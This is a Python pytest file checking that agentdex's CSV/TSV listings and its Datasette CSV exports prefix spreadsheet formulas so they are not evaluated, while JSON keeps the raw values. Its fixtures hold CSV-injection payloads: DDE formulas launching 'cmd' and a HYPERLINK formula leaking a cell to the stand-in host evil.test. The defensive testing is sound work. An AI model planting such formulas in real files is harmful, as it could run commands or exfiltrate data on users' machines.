"""CSV injection: a crawled origin (over real HTTPS on loopback) whose name and one-liner are
spreadsheet formulas, and a seed file naming an agent with one. Every CSV and TSV agentdex
writes (``list --csv``, the TSV ``list`` writes to a pipe) and Datasette's CSV exports of the
catalogue (a table, ``seed_sources``, custom SQL) give them as text a spreadsheet will not
evaluate; JSON keeps the exact values."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
from typer.testing import CliRunner

from agentdex.cli import app
from agentdex.sampleweb.server import HOSTILE_ROOT, SampleWeb
from agentdex.serve import database_name, make_datasette

ORIGIN = "formula.test"
NAME = "=cmd|' /C calc'!A0"
ONE_LINER = '=HYPERLINK("https://evil.test/?leak="&A1,"Open")'
AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"


def invoke(*args: str):
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture(scope="module")
def catalogue(tmp_path_factory):
    """formula.test crawled from a web of its own, and a seed file naming an agent ``@SUM…``."""
    root = tmp_path_factory.mktemp("web")
    manifest = json.loads((HOSTILE_ROOT / "oddtext.test" / ".well-known" / "agent-app.json").read_text("utf-8"))
    manifest.update(
        name=NAME, one_liner=ONE_LINER, homepage=f"https://{ORIGIN}/", guide={"url": f"https://{ORIGIN}/agent.md"}
    )
    manifest.update(http={"base": f"https://{ORIGIN}/api"}, publisher={"name": "-2+3", "contact": f"mailto:x@{ORIGIN}"})
    (root / ORIGIN / ".well-known").mkdir(parents=True)
    (root / ORIGIN / ".well-known" / "agent-app.json").write_text(json.dumps(manifest), "utf-8")
    shutil.copy(HOSTILE_ROOT / "oddtext.test" / "agent.md", root / ORIGIN / "agent.md")
    db = tmp_path_factory.mktemp("catalogue") / "agentdex.db"
    with SampleWeb(root) as web:
        invoke("crawl", ORIGIN, "--no-verify", *web.cli_args(), "--db", str(db))
    listing = root / "agents.json"
    listing.write_text(json.dumps({"agents": [{"name": AGENT, "url": f"https://{ORIGIN}/"}]}), "utf-8")
    invoke("seeds", str(listing), "--db", str(db))
    return db


def test_list_csv_and_the_tsv_of_a_pipe_neutralise_formulas(catalogue):
    fields = "origin,name,one_liner"
    rows = list(csv.reader(io.StringIO(invoke("list", "--csv", "--fields", fields, "--db", str(catalogue)))))
    assert rows[1] == [ORIGIN, "'" + NAME, "'" + ONE_LINER]
    tsv = invoke("list", "--fields", fields, "--db", str(catalogue))  # CliRunner's stdout is no TTY: TSV
    assert tsv.rstrip("\n").split("\t") == [ORIGIN, "'" + NAME, "'" + ONE_LINER]
    exact = json.loads(invoke("list", "--json", "--fields", fields, "--db", str(catalogue)))["listings"][0]
    assert (exact["name"], exact["one_liner"]) == (NAME, ONE_LINER)


@pytest.fixture
async def datasette(catalogue):
    ds = make_datasette(catalogue)
    await ds.invoke_startup()
    return ds, database_name(catalogue)


async def csv_of(ds, path: str, **params: str) -> list[list[str]]:
    answer = await ds.client.get(path, params=params)
    assert answer.status_code == 200, answer.text[:300]
    return list(csv.reader(io.StringIO(answer.text)))


async def test_datasettes_csv_exports_of_the_catalogue_neutralise_formulas(datasette):
    ds, db = datasette
    table = await csv_of(ds, f"/{db}/listings.csv", _col=["name", "one_liner"])
    assert table[1][-2:] == ["'" + NAME, "'" + ONE_LINER]
    download = await csv_of(ds, f"/{db}/listings.csv", _col="name", _dl="1")  # text/csv, an attachment
    assert download[1][-1] == "'" + NAME
    seeds = await csv_of(ds, f"/{db}/seed_sources.csv", _col="name")
    assert seeds[1][-1] == "'" + AGENT
    sql = await csv_of(ds, f"/{db}.csv", sql="select name, one_liner, -5 as n, '-2+3' as sum from listings")
    assert sql[1] == ["'" + NAME, "'" + ONE_LINER, "-5", "'-2+3"]  # a number is itself, never a formula


async def test_datasettes_json_keeps_the_exact_value(datasette):
    ds, db = datasette
    answer = await ds.client.get(f"/{db}/listings.json", params={"_shape": "array", "_col": "name"})
    assert [row["name"] for row in answer.json()] == [NAME]
